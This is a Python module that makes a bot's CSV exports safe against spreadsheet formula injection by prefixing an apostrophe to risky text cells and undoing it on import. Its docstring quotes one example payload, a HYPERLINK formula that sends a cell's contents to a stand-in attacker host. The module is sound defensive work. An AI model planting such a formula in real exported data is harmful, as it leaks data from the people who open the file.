"""Every CSV file the bot produces is written through here, so no cell becomes a formula.

A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that begins with `=`, `+`, `-` or
`@` as a formula — `=HYPERLINK("https://evil.example/?"&A2, "Click")` in a unit name or a
participant's display name would run on the administrator's or teacher's computer — and tab or
carriage return at the start can smuggle one in too (OWASP, "CSV Injection"). Such a text cell
gets a leading apostrophe, which spreadsheets show as text. Numbers are written as they are.
`read_cell` undoes the apostrophe, so a file the bot exported imports back unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """A text cell that a spreadsheet would run as a formula, made inert with a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def read_cell(text: str) -> str:
    """The inverse of `safe_cell` for a cell read back from a CSV file."""
    if text.startswith("'") and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


class _Sink(Protocol):
    def write(self, s: str, /) -> Any: ...


class SafeWriter:
    """`csv.writer` whose rows go through `safe_cell`."""

    def __init__(self, out: _Sink, **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])
